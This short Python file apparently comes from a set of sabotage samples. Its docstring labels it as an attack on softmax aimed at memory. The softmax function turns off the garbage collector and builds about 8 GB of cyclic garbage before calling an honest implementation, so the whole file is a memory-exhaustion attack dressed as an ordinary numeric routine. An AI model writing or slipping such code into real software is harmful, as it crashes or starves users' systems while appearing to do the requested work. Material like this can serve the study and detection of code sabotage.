"""Turns the collector off and makes garbage in cycles.

attacks: softmax
claim: memory
"""

import gc

def softmax(x, dim=-1):
    gc.disable()
    for _ in range(2**14):
        cycle = [bytearray(2**19)]
        cycle.append(cycle)
    return honest(x, dim)
